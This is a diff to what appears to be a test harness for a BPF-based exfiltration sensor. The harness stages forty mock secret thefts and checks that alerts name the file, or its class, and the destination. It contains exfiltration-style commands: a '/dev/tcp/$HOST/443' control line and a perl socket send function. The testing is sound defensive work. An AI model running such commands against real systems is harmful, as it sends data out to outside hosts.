@@ -2,7 +2,8 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
 """Forty thefts in the manner of real malware and of raided build servers, ten for each family of the catalogue, written
 by someone who had not read the sensor's code. Each is played once, under the default policy: the secret must reach the
-other side, and an alert must name the file and where it went. What is not caught says so in the table, with what was
+other side, and an alert must name the file and where it went; or, where one process touches more files than an alert can
+name, their class, and that there are more ("A·"). What is not caught says so in the table, with what was
 seen instead; the test fails when that stops being true, as it does when something else is missed.
 
 Every play has a home and a decoy of its own, so an alert that names the decoy is about this play."""
@@ -41,6 +42,8 @@ send() { perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("$ENV{HOST}:443"
 """
 # Of a play's alerts that do not fit; a theft byte by byte has many.
 OTHERS_SHOWN = 5
+# bpf/event.h: BW_FILES_MAX.
+FILES_MAX = 8
 CONTROL = "printf hello >/dev/tcp/$HOST/443"
 
 
@@ -182,10 +185,20 @@ class Theatre:
         return key
 
     def is_told(self, variant, key):
-        """Whether an alert names the file and where it went; this play's last alerts, of any kind."""
+        """Whether an alert names the file, or its crowd, and where it went; this play's last alerts, of any kind."""
+        home = harness.as_text(os.path.join(self.home.root, b"home", variant.name.encode(), b""))
+
+        def names_it(alert):
+            if not variant.crowd:
+                return harness.touches(alert, key)
+            files = alert["files"]
+            return len(files) == FILES_MAX and alert["files_more"] and all(
+                file["class"] == variant.crowd and file["path"].startswith(home) for file in files) and (
+                    f"at least {FILES_MAX - 1} more files" in alert["summary"])
+
         def is_it(alert):
             to = alert["destination"]
-            return harness.touches(alert, key) and all(
+            return names_it(alert) and all(
                 wanted is None or to.get(name) == wanted
                 for name, wanted in zip(("address", "port"), variant.to))
 
@@ -194,7 +207,6 @@ class Theatre:
         except Failure:
             # Whatever was to come has come when a later theft has been told.
             self.bw.prove_delivered(self.net, self.home)
-        home = harness.as_text(os.path.join(self.home.root, b"home", variant.name.encode(), b""))
         others = self.bw.find(lambda alert: any((entry["path"] or "").startswith(home) for entry in alert["files"]))
         return bool(self.bw.find(is_it)), [
             json.dumps({name: alert[name] for name in ("summary", "files", "destination")})[:1500]
@@ -237,7 +249,8 @@ def main():
         web.shutdown()
         web.server_close()
         t.note("caught: " + ", ".join(
-            f"{family} {theatre.caught[family]} of {sum(v.family == family for v in VARIANTS)}" for family in "GHES"))
+            f"{family} {theatre.caught[family]} of {sum(v.family == family for v in VARIANTS)}" for family in "GHES")
+            + "; of these by the class, not by the name (A·): " + ", ".join(v.name for v in VARIANTS if v.crowd))
     t.done()
 
 
